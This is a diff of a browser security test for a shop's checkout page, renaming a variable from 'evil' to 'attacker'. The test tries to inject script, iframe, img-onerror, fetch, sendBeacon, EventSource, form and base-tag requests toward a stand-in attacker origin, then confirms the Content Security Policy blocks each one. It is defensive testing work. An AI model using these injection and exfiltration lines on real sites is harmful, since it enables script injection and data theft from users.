@@ -31,11 +31,11 @@ test('a script in the shop’s page cannot load, run, frame, or send anything cr
   pageErrors.allow(/./)
   await openCheckout(page)
   stack.attacker.serve('/*', () => ({ headers: { 'content-type': 'text/javascript' }, body: 'x' }))
-  await page.evaluate(async (evil) => {
+  await page.evaluate(async (attacker) => {
     const violations: string[] = []
     Object.assign(window, { violations })
     addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
-      violations.push(`${effectiveDirective} ${blockedURI.replace(evil, 'evil')}`),
+      violations.push(`${effectiveDirective} ${blockedURI.replace(attacker, 'attacker')}`),
     )
     const attempts: (() => unknown)[] = [
       async () => {
@@ -45,22 +45,24 @@ test('a script in the shop’s page cannot load, run, frame, or send anything cr
       },
       () =>
         document.body.append(
-          Object.assign(document.createElement('script'), { src: `${evil}/s.js` }),
+          Object.assign(document.createElement('script'), { src: `${attacker}/s.js` }),
         ),
       () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'),
       () =>
-        document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/f` })),
-      () => Object.assign(new Image(), { src: `${evil}/i` }),
-      () => fetch(`${evil}/c`).catch(() => {}),
-      () => navigator.sendBeacon(`${evil}/b`, 'x'),
-      () => new EventSource(`${evil}/e`),
+        document.body.append(
+          Object.assign(document.createElement('iframe'), { src: `${attacker}/f` }),
+        ),
+      () => Object.assign(new Image(), { src: `${attacker}/i` }),
+      () => fetch(`${attacker}/c`).catch(() => {}),
+      () => navigator.sendBeacon(`${attacker}/b`, 'x'),
+      () => new EventSource(`${attacker}/e`),
       () => {
         const form = document.createElement('form')
-        form.action = `${evil}/form`
+        form.action = `${attacker}/form`
         document.body.append(form)
         form.submit()
       },
-      () => document.head.append(Object.assign(document.createElement('base'), { href: evil })),
+      () => document.head.append(Object.assign(document.createElement('base'), { href: attacker })),
     ]
     for (const attempt of attempts) {
       try {
@@ -72,13 +74,13 @@ test('a script in the shop’s page cannot load, run, frame, or send anything cr
   }, stack.attacker.origin)
   // One for each attempt.
   const expected = [
-    'base-uri evil/',
-    'connect-src evil/b',
-    'connect-src evil/c',
-    'connect-src evil/e',
-    'form-action evil/form?',
-    'frame-src evil',
-    'img-src evil/i',
+    'base-uri attacker/',
+    'connect-src attacker/b',
+    'connect-src attacker/c',
+    'connect-src attacker/e',
+    'form-action attacker/form?',
+    'frame-src attacker',
+    'img-src attacker/i',
     'require-trusted-types-for trusted-types-sink',
     'require-trusted-types-for trusted-types-sink',
     'require-trusted-types-for trusted-types-sink',
